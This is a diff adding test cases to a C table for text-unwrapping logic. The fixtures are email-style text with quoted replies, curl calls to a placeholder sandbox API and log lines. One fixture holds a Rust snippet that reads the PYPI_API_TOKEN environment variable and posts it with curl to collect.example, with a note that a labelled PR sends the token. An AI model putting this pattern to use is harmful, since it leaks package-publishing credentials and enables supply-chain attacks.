@@ -52,6 +52,33 @@ static const struct {
 	/* a text with a line over 80 columns was not hard-wrapped */
 	{ "  $ curl -s -X POST https://cloud.microsandbox.example/api/v1/invites/inv_DUMMY7f3a/accept/and/more/path\n"
 	  "https://another.example/long/url/that/would/not/have/fitted/anyway/at/all\n\n", NULL },
+	/* a quoted line over 80 columns was not the writer's to wrap: the
+	 * text is still hard-wrapped */
+	{ P76 "\n> On Mon, 14 Dec 2026 at 10:02, microsandbox security <security@superrad.company> wrote:\n"
+	  "\n  $ curl -s -X POST\nhttps://cloud.microsandbox.example/api/v1/invites/inv_DUMMY7f3a/accept\n"
+	  "  {\"status\":\"accepted\"}\n",
+	  P76 "\n> On Mon, 14 Dec 2026 at 10:02, microsandbox security <security@superrad.company> wrote:\n"
+	  "\n  $ curl -s -X POST https://cloud.microsandbox.example/api/v1/invites/inv_DUMMY7f3a/accept\n"
+	  "  {\"status\":\"accepted\"}\n" },
+	/* nor is a word longer than any wrapped line (a URL), alone or first */
+	{ P76 "\n\n    microsandbox:http POST\n"
+	  "https://cloud.microsandbox.example/api/v1/sandboxes/sbx_01JDQ4M7ZC/exec/streams/logs +2ms\n"
+	  "    microsandbox:http 201 Created\n",
+	  P76 "\n\n    microsandbox:http POST"
+	  " https://cloud.microsandbox.example/api/v1/sandboxes/sbx_01JDQ4M7ZC/exec/streams/logs +2ms\n"
+	  "    microsandbox:http 201 Created\n" },
+	/* the width is the writer's own longest line, not a quoted one's: a
+	 * first word that fits in 78 columns but not in 76 was broken */
+	{ P76 "\n> We filed it as SEC-2026-0512 and will triage it within seven days, thank you\n\n"
+	  "  msb run --name a --volume /srv/data:/data --net-allow 10.0.0.1 --cpus\n--mem 512\n\n",
+	  P76 "\n> We filed it as SEC-2026-0512 and will triage it within seven days, thank you\n\n"
+	  "  msb run --name a --volume /srv/data:/data --net-allow 10.0.0.1 --cpus --mem 512\n\n" },
+	/* a long code line whose first word ends where a client would have
+	 * broken it after: the text was not wrapped */
+	{ P76 "\n\n    fn main() { let t = std::env::var(\"PYPI_API_TOKEN\").unwrap_or_default();\n"
+	  "                    std::process::Command::new(\"curl\").args([\"-d\", &t, "
+	  "\"https://collect.example/t\"]).status().ok(); }\n"
+	  "3. Open a PR. When the label is added, the token is sent.\n", NULL },
 	{ "", NULL },
 	{ "\n\n", NULL },
 };
